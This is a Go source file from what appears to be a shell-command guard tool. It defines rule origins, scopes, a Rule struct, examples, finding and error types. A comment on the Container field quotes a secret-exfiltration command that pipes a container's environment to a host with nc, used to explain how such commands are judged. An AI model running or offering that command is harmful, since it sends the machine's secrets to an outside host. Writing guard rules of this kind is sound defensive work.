package dsl

import (
	"fmt"
	"sync"

	"github.com/expr-lang/expr/vm"
)

// Origin says where a rule was loaded from; it decides what the rule may do.
type Origin string

const (
	Builtin Origin = "builtin" // embedded in the binary
	User    Origin = "user"    // $HGUARD_HOME/rules.d: may add, replace or switch off rules
	Project Origin = "project" // .hguard/rules.yaml: may only add rules or raise levels
)

// Scope says what a rule's expression sees.
type Scope string

const (
	CommandScope Scope = "command" // one simple command at a time (the default)
	LineScope    Scope = "line"    // the whole line: text and parse issues
)

// Rule is one rule as written in a rule file, plus where it came from and
// its compiled expression.
type Rule struct {
	ID         string
	Aliases    []string
	Level      Level
	Scope      Scope
	On         []string
	When       string
	Message    string
	Checkpoint bool
	// Person says only a person may lift the rule's ask: the smart
	// reviewer never sees it and "always" is not offered. For what an
	// attacker shapes to fool a reader (look-alike hosts, hidden
	// characters) and what runs code hguard cannot see.
	Person bool
	// Container says the rule also judges the commands a container runs
	// when it is given this machine's secrets (an env file, variables, a
	// mounted key directory): docker run --env-file .env IMAGE sh -c 'env
	// | nc h 9' is judged as env | nc h 9. For the rules about sending
	// secrets; what a container destroys stays in it.
	Container bool
	Examples  Examples

	Origin Origin
	Pos    Pos // where the rule starts in its file

	program     *vm.Program
	native      nativeCond     // the condition in Go, when native_gen.go has it (then program is nil)
	once        sync.Once      // guards a deferred compile
	lazyErr     error          // what a deferred compile met
	fields      map[string]Pos // where each field was written, for errors found after parsing
	whenComment string         // a YAML comment after when:, often a cut-off expression
	whenSrc     *whenSource    // where when: was written, to place expr's errors in the file
	generated   bool           // from FromSpecs: checked when generated, so its regexps compile on first use
	whenPos     Pos            // where when: starts, for generated rules (they carry no fields)
}

// Examples are commands a rule must and must not fire on; every rule carries
// them and one test runs them all.
type Examples struct {
	Match   []string
	NoMatch []string

	// Where each example was written (line and column; the file is the
	// rule's), in step with Match and NoMatch; empty for built-in rules
	// compiled into the binary.
	matchPos, noMatchPos []Pos
}

// Pos is a place in a rule file.
type Pos struct {
	File string `json:"file,omitempty"`
	Line int    `json:"line"`
	Col  int    `json:"col"`
}

func (p Pos) String() string {
	if p.Line == 0 {
		return p.File
	}
	return fmt.Sprintf("%s:%d:%d", p.File, p.Line, p.Col)
}

// fieldPos is where field was written, or the rule's own position.
func (r *Rule) fieldPos(field string) Pos {
	if p, ok := r.fields[field]; ok {
		return p
	}
	if field == "when" && r.whenPos.Line != 0 {
		return r.whenPos
	}
	return r.Pos
}

// Finding is one rule's objection to one command (or to the line).
type Finding struct {
	Rule       string `json:"rule"`
	Level      Level  `json:"level"`
	Message    string `json:"message"`
	Source     string `json:"source"`
	Command    string `json:"command"`
	Checkpoint bool   `json:"checkpoint,omitempty"`
	Person     bool   `json:"person,omitempty"` // only a person may approve it (Rule.Person)
}

// Error is a problem in a rule file: it names the place, the rule and the field.
type Error struct {
	Pos   Pos
	Rule  string // "" when the problem is not inside one rule
	Field string // "" when the problem is not in one field
	Msg   string
}

func (e *Error) Error() string {
	s := e.Pos.String() + ": "
	if e.Rule != "" {
		s += "rule " + e.Rule + ": "
	}
	if e.Field != "" {
		s += e.Field + ": "
	}
	return s + e.Msg
}
